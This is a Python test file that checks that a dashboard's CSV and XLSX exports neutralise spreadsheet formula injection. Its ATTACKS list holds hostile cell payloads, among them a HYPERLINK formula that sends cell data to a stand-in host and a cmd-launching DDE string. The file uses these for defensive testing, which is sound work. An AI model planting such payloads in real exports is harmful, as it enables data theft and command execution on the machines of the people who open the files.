"""Attack (issue 12, finding 8): a file named `=HYPERLINK(...)` and a school named `@SUM(...)` reach
the CSVs the dashboard hands out (the audit log, a page's table, a listing made on click). Opened in
Excel or WPS, a cell starting with = + - @ (or a tab or carriage return) runs as a formula. Every
CSV and XLSX the product writes goes through one writer that neutralises such cells."""

from __future__ import annotations

import csv
import io

import openpyxl
import polars as pl

from dashboards import ui
from pipelines.exports import files

ATTACKS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\t=1+1", "\r=1+1"]


def cells(payload: bytes) -> list[str]:
    text = payload.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def dangerous(cell: str) -> bool:
    return cell.startswith(files.FORMULA_PREFIXES)


def audit_like_frame() -> pl.DataFrame:
    return pl.DataFrame({
        "event": ["upload"] * len(ATTACKS),
        "subject": ATTACKS,  # the uploaded file's name
        "school_name": list(reversed(ATTACKS)),
        "schools": [[a, "3412000534"] for a in ATTACKS],  # a list column: joined, then neutralised
        "rows": list(range(len(ATTACKS))),
    })


def test_dashboard_csv_downloads_neutralise_formulas():
    body = cells(ui.csv_bytes(audit_like_frame()))
    assert not [c for c in body if dangerous(c)]
    # the text is kept, behind an apostrophe, so a reader still sees what was sent
    assert "'" + ATTACKS[0] in body
    assert any(c.startswith("'" + ATTACKS[1]) for c in body)


def test_every_writer_neutralises():
    frame = audit_like_frame()
    assert not [c for c in cells(files.csv_bytes(frame)) if dangerous(c)]
    workbook = openpyxl.load_workbook(io.BytesIO(files.xlsx_bytes(frame, sheet="数据")))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert not [v for v in values if isinstance(v, str) and dangerous(v)]
    assert not [cell for row in workbook.active.iter_rows() for cell in row if cell.data_type == "f"]
    assert [v for v in values if isinstance(v, int)] == list(range(len(ATTACKS)))  # numbers stay numbers
